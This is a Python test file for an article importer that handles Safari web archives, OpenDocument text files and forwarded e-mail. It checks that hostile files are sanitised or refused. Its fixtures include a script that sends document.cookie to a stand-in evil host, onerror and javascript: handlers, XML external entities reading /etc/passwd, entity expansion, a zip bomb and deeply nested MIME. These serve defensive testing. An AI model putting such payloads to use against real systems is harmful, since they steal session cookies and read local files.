"""Safari web archives, OpenDocument text and forwarded e-mail: the article read out of each, and
hostile files refused in one line (or read safely), never a crash, a hang or a fetch."""

from __future__ import annotations

import io
import plistlib
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.importers import import_file
from tests.fuzz.conftest import FUZZ, accepting
from tests.fuzz.network_guard import files_opened, no_network
from tests.helpers import refusal
from tests.importers.test_html import ARTICLE, PARAGRAPHS, page
from tests.importers.test_pdf_fuzz import check, mutated

__all__ = ["files_opened", "no_network"]

URL = "https://news.invalid/2026/11/ferries"
HOSTILE_PAGE = page(
    ARTICLE + "<script>fetch('https://evil.invalid/'+document.cookie)</script>"
    '<img src="https://tracker.invalid/pixel.gif" onerror="alert(1)">'
    '<p><a href="javascript:alert(1)">Read more about the ferries and the storm that cancelled them</a></p>'
)


def _file(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _no_active_content(html: str | None) -> None:
    assert html is not None
    lowered = html.lower()
    for bad in ("<script", "onerror", "javascript:", "tracker.invalid", "evil.invalid"):
        assert bad not in lowered, bad


# --- Safari .webarchive -------------------------------------------------------------------------


def webarchive(html: bytes | None, *, url: str = URL, encoding: str = "UTF-8", kind: str = "text/html",
               fmt: plistlib.PlistFormat = plistlib.FMT_BINARY) -> bytes:  # fmt: skip
    main: dict[str, object] = {"WebResourceMIMEType": kind, "WebResourceURL": url, "WebResourceFrameName": ""}
    if html is not None:
        main["WebResourceData"] = html
    if encoding:
        main["WebResourceTextEncodingName"] = encoding
    subresources = [{"WebResourceData": b"GIF89a", "WebResourceURL": "https://tracker.invalid/pixel.gif",
                     "WebResourceMIMEType": "image/gif"}]  # fmt: skip
    return plistlib.dumps({"WebMainResource": main, "WebSubresources": subresources}, fmt=fmt)


@pytest.mark.parametrize("fmt", [plistlib.FMT_BINARY, plistlib.FMT_XML])
def test_a_webarchive_reads_as_its_page(tmp_path: Path, fmt: plistlib.PlistFormat) -> None:
    article = import_file(_file(tmp_path, "ferries.webarchive", webarchive(HOSTILE_PAGE.encode(), fmt=fmt)))
    assert article.format == "webarchive" and article.url == URL
    assert article.title == "Ferries cancelled" and article.outlet == "Harbour News"
    assert all(p in article.text for p in PARAGRAPHS)
    assert "Related stories" not in article.text and "Copyright" not in article.text
    _no_active_content(article.html)


def test_a_webarchive_in_its_recorded_encoding(tmp_path: Path) -> None:
    html = page("<h1>Поромів немає</h1><p>" + "Порти закрито через шторм, заявили у вівторок. " * 4 + "</p>")
    data = webarchive(html.encode("cp1251"), encoding="windows-1251")
    assert "Порти закрито через шторм" in import_file(_file(tmp_path, "uk.webarchive", data)).text


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"not a property list at all", "not a readable Safari web archive"),
        (plistlib.dumps(["a list"], fmt=plistlib.FMT_BINARY), "no web page found"),
        (plistlib.dumps({"WebMainResource": "text"}), "no web page found"),
        (webarchive(None), "is empty"),
        (webarchive(b"GIF89a", kind="image/gif"), "holds image/gif, not a web page"),
        (webarchive(HOSTILE_PAGE.encode())[:200], "not a readable Safari web archive"),
        (
            b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b"<plist><dict><key>WebMainResource</key><string>&x;</string></dict></plist>",
            "not a readable Safari web archive",
        ),
    ],
)
def test_broken_webarchives_get_a_clear_message(
    tmp_path: Path, data: bytes, reason: str, no_network: list[str], files_opened: list[str]
) -> None:
    assert reason in refusal(_file(tmp_path, "page.webarchive", data))
    assert not any("passwd" in opened for opened in files_opened)


def test_a_webarchive_whose_objects_refer_to_themselves(tmp_path: Path) -> None:
    """A binary plist whose top dictionary lists itself as its own value: refused, not a recursion."""
    header = b"bplist00"
    # object 0: a dict of one entry, key object 1, value object 0 (itself); object 1: the key string
    objects = [bytes([0xD1, 0x01, 0x00]), bytes([0x5F, 0x10, 15]) + b"WebMainResource"]
    offsets, body = [], b""
    for item in objects:
        offsets.append(len(header) + len(body))
        body += item
    table = bytes(offsets)
    trailer = bytes(6) + bytes([1, 1]) + (2).to_bytes(8, "big") + (0).to_bytes(8, "big")
    trailer += (len(header) + len(body)).to_bytes(8, "big")
    data = header + body + table + trailer
    message = refusal(_file(tmp_path, "loop.webarchive", data))
    assert "inside this web archive is empty" in message, "parsed (a well-formed plist), then refused"


# --- OpenDocument text --------------------------------------------------------------------------

TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    f'xmlns:text="{TEXT}" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
)


def content(body: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NAMESPACES}>'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )


BODY = (
    '<text:h text:outline-level="1">Ferries cancelled</text:h>'
    f"<text:p>{PARAGRAPHS[0]}<text:note><text:note-body><text:p>A FOOTNOTE</text:p></text:note-body>"
    "</text:note></text:p>"
    '<text:h text:outline-level="2">Repairs</text:h>'
    f"<text:p>{PARAGRAPHS[1]}<office:annotation><text:p>A COMMENT</text:p></office:annotation></text:p>"
    "<text:tracked-changes><text:changed-region><text:deletion><text:p>DELETED TEXT</text:p>"
    "</text:deletion></text:changed-region></text:tracked-changes>"
    f"<text:list><text:list-item><text:p>{PARAGRAPHS[2]}</text:p></text:list-item></text:list>"
    '<text:p>Piers:<text:s text:c="2"/>north<text:tab/>south<text:line-break/>east</text:p>'
    "<draw:frame><draw:text-box><text:p>A CAPTION</text:p></draw:text-box></draw:frame>"
)
META = (
    f'<?xml version="1.0"?><office:document-meta {NAMESPACES}><office:meta><dc:title>Meta title</dc:title>'
    "<meta:initial-creator>Ana Silva</meta:initial-creator></office:meta></office:document-meta>"
)


def make_odt(
    parts: dict[str, str | bytes], mimetype: str = "application/vnd.oasis.opendocument.text"
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_an_odt_reads_its_text_without_notes_comments_or_deletions(tmp_path: Path) -> None:
    article = import_file(
        _file(tmp_path, "ferries.odt", make_odt({"content.xml": content(BODY), "meta.xml": META}))
    )
    assert article.format == "odt" and article.title == "Ferries cancelled" and article.byline == "Ana Silva"
    paragraphs = article.text.split("\n\n")
    assert paragraphs[:5] == ["Ferries cancelled", PARAGRAPHS[0], "Repairs", PARAGRAPHS[1], PARAGRAPHS[2]]
    assert paragraphs[5] == "Piers:  north\tsouth\neast"
    for left_out in ("FOOTNOTE", "COMMENT", "DELETED", "CAPTION"):
        assert left_out not in article.text
    assert article.html is not None and "<h2>Repairs</h2>" in article.html


def test_an_odt_without_a_heading_takes_the_meta_title(tmp_path: Path) -> None:
    data = make_odt({"content.xml": content(f"<text:p>{PARAGRAPHS[0]}</text:p>"), "meta.xml": META})
    assert import_file(_file(tmp_path, "plain.odt", data)).title == "Meta title"


@pytest.mark.parametrize(
    ("prolog", "words"),
    [
        (
            '<!DOCTYPE office:document-content [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
            "&b;",
        ),
        ('<!DOCTYPE office:document-content [<!ENTITY s SYSTEM "file:///etc/passwd">]>', "&s;"),
    ],
)
def test_odt_entity_tricks_are_refused(
    tmp_path: Path, prolog: str, words: str, no_network: list[str], files_opened: list[str]
) -> None:
    xml = content(f"<text:p>{words}</text:p>").replace("?>", "?>" + prolog, 1)
    assert "XML entity declarations" in refusal(_file(tmp_path, "evil.odt", make_odt({"content.xml": xml})))
    assert not any("passwd" in opened for opened in files_opened)


def test_an_odt_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    bomb = content("<text:p>" + "a" * (120 * 2**20) + "</text:p>")
    message = refusal(_file(tmp_path, "bomb.odt", make_odt({"content.xml": bomb})))
    assert "zip bomb" in message


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"Plain text with an .odt name.", "is not an OpenDocument text"),
        (make_odt({"other.xml": "<x/>"}), "not an OpenDocument (no content.xml)"),
        (make_odt({"content.xml": content("")}, "application/vnd.oasis.opendocument.spreadsheet"),
         "is an OpenDocument spreadsheet"),
        (make_odt({"content.xml": "<office:document-content><office:body>"}), "damaged or cut short"),
        (make_odt({"content.xml": content("<text:p> </text:p>")}), "has no text"),
        (make_odt({"content.xml": content(BODY)})[:300], "is not an OpenDocument text"),
        (make_odt({"content.xml": content('<text:p>a<text:s text:c="99999999999"/>b c</text:p>')}), ""),
    ],
)  # fmt: skip
def test_broken_odts_get_a_clear_message(tmp_path: Path, data: bytes, reason: str) -> None:
    path = _file(tmp_path, "broken.odt", data)
    if not reason:  # a space count from a crafted file: capped, not a billion spaces
        assert len(import_file(path).text) < 2000
        return
    assert reason in refusal(path)


# --- e-mail -------------------------------------------------------------------------------------

STORY = "\n\n".join(["Ferries cancelled", *PARAGRAPHS])


def mail(plain: str | None, html: str | None = None, subject: str = "Fwd: Ferries cancelled") -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Desk <desk@news.invalid>"
    message["To"] = "me@news.invalid"
    message["Subject"] = subject
    if plain is not None:
        message.set_content(plain)
        if html is not None:
            message.add_alternative(html, subtype="html")
    elif html is not None:
        message.set_content(html, subtype="html")
    return message


def test_a_forwarded_story_reads_its_text_without_the_forward_header(tmp_path: Path) -> None:
    plain = (
        "Worth a check?\n\n---------- Forwarded message ---------\nFrom: News <n@news.invalid>\n"
        "Date: Tue, 3 Mar 2026 09:00\nSubject: Ferries cancelled\nTo: Desk <desk@news.invalid>\n\n" + STORY
    )
    message = mail(plain, HOSTILE_PAGE)
    message.add_attachment(
        b"%PDF-1.4 ATTACHED SECRET", maintype="application", subtype="pdf", filename="x.pdf"
    )
    article = import_file(_file(tmp_path, "story.eml", bytes(message)))
    assert article.format == "eml" and article.title == "Ferries cancelled"
    assert article.text.startswith("Worth a check?\n\nFerries cancelled\n\n" + PARAGRAPHS[0])
    assert "Forwarded message" not in article.text and "From: News" not in article.text
    assert "ATTACHED SECRET" not in article.text


def test_an_html_only_message_is_sanitised_like_a_page(tmp_path: Path) -> None:
    article = import_file(_file(tmp_path, "html.eml", bytes(mail(None, HOSTILE_PAGE))))
    assert all(p in article.text for p in PARAGRAPHS)
    _no_active_content(article.html)


def test_a_story_forwarded_as_an_attached_message(tmp_path: Path) -> None:
    outer = mail(None, None, subject="Fwd: see attached")
    outer.set_content("")
    inner = mail(STORY, subject="Ferries cancelled")
    outer.add_attachment(inner)
    outer.replace_header("Subject", "Fwd: see attached")
    data = bytes(outer)
    article = import_file(_file(tmp_path, "attached.eml", data))
    assert PARAGRAPHS[0] in article.text


def test_a_message_in_an_old_charset_and_encoding(tmp_path: Path) -> None:
    message = mail("Порти закрито через шторм, заявили у вівторок.\n\n" + STORY)
    message.set_content(
        "Порти закрито через шторм, заявили у вівторок.\n\n" + STORY, charset="koi8-u", cte="base64"
    )
    article = import_file(_file(tmp_path, "koi8.eml", bytes(message)))
    assert article.text.startswith("Порти закрито через шторм")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "no text"),
        (b"Subject: nothing\r\nContent-Type: image/png\r\n\r\nPNG", "no text"),
        (b"Subject: x\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\x00\x01\x02\x03" * 3, "binary"),
    ],
)
def test_broken_messages_get_a_clear_message(tmp_path: Path, data: bytes, reason: str) -> None:
    assert reason in refusal(_file(tmp_path, "bad.eml", data))


def test_a_deeply_nested_message_is_refused_or_read_quickly(tmp_path: Path) -> None:
    boundary, depth = "b", 3000
    head = "".join(f'Content-Type: multipart/mixed; boundary="{boundary}{i}"\r\n\r\n--{boundary}{i}\r\n'
                   for i in range(depth))  # fmt: skip
    data = (
        "Subject: deep\r\n"
        + head
        + "Content-Type: text/plain\r\n\r\nThe council said 30 mm of rain fell.\r\n"
    ).encode()
    path = _file(tmp_path, "deep.eml", data)
    try:
        import_file(path)
    except Exception as error:  # only the one kind of refusal
        from app.errors import UnreadableFileError

        assert isinstance(error, UnreadableFileError), repr(error)


def test_unknown_charset_is_read_as_utf8(tmp_path: Path) -> None:
    data = ("Subject: x\r\nContent-Type: text/plain; charset=x-unknown-42\r\n\r\n" + STORY).encode()
    assert PARAGRAPHS[0] in import_file(_file(tmp_path, "odd.eml", data)).text


# --- fuzz ---------------------------------------------------------------------------------------

BASES = {
    ".webarchive": webarchive(page(ARTICLE).encode()),
    ".odt": make_odt({"content.xml": content(BODY), "meta.xml": META}),
    ".eml": bytes(mail(STORY, page(ARTICLE))),
}


@FUZZ
@given(data=st.data(), suffix=st.sampled_from(sorted(BASES)))
def _mutated(data: st.DataObject, suffix: str) -> None:
    check(data.draw(mutated(BASES[suffix])), suffix, f"import_file ({suffix}, mutated)")


def test_mutated_files_import_or_are_refused_in_one_line() -> None:
    with accepting(0.05):
        _mutated()
